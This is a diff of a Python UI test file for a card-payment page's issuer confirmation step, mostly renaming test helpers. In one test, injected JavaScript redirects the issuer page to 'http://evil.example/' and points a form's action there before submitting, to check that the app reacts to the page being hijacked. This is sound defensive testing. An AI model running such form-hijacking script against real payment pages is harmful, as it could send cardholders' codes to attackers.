@@ -55,8 +55,9 @@ from tests.services.gateway.conftest import opened as opened_card_payments
 from tests.support.contexts import RecordingNavigator, context_of, workspace_of
 from tests.support.fakes import FixedClock
 from tests.support.orders import order_of
+from tests.support.web_scripts import PATIENCE_S, shows_element, tell
 from tests.support.window_tasks import ending
-from tests.ui.gateway.issuer import PATIENCE_S, PATIENT, confirm_at_issuer, script, shows
+from tests.ui.gateway.issuer import PATIENT, confirm_at_issuer
 from tests.ui.hands import click, press, settle, write
 from tests.ui.test_accessibility import nameless
 
@@ -165,17 +166,17 @@ class PayPageSetup:
             lambda: self.page.step is PayStep.RESULT and self.page.panel.heading.text() == heading
         )
 
-    async def script(self, source: str) -> Any:
-        """What a script on the issuer's page answers."""
-        return await script(self.page.browser, source)
+    def tell(self, source: str) -> None:
+        """Let the issuer's page do something."""
+        tell(self.page.browser, source)
 
     async def at_issuer(self) -> None:
         """Wait for the page that asks for the code."""
-        await shows(self.page.browser, "code")
+        await shows_element(self.page.browser, "code")
 
     async def asked_again(self) -> None:
         """Wait until the issuer says that the code was wrong."""
-        await shows(self.page.browser, "wrong")
+        await shows_element(self.page.browser, "wrong")
 
     async def confirm(self, code: str) -> None:
         """Enter a code at the issuer."""
@@ -258,7 +259,7 @@ def test_the_cardholder_confirms_at_the_issuer(at_page: Any, number: str) -> Non
     async def story(page_setup: PayPageSetup) -> None:
         order_id = await page_setup.take_up()
         await page_setup.pay(number)
-        await shows(page_setup.page.browser, "code")
+        await shows_element(page_setup.page.browser, "code")
         focused = QApplication.focusWidget()
         assert focused is not None
         assert page_setup.page.browser.isAncestorOf(focused), "the code is typed at once"
@@ -375,10 +376,10 @@ def test_however_the_page_of_the_issuer_ends_the_status_speaks(at_page: Any, why
             session.end(FlowEnd.TIMED_OUT)
         elif why == "elsewhere":
             await page_setup.at_issuer()
-            await page_setup.script("location.href = 'http://evil.example/'; 1")
+            page_setup.tell("location.href = 'http://evil.example/'")
             await settle(lambda: bool(page_setup.page.browser.notice.text()))
-            await page_setup.script("document.forms[0].action = 'http://evil.example/'; 1")
-            await page_setup.script("document.forms[0].submit(); 1")
+            page_setup.tell("document.forms[0].action = 'http://evil.example/'")
+            page_setup.tell("document.forms[0].submit()")
         await page_setup.says("Checking the status …")
         view = page_setup.page.view
         assert view is not None
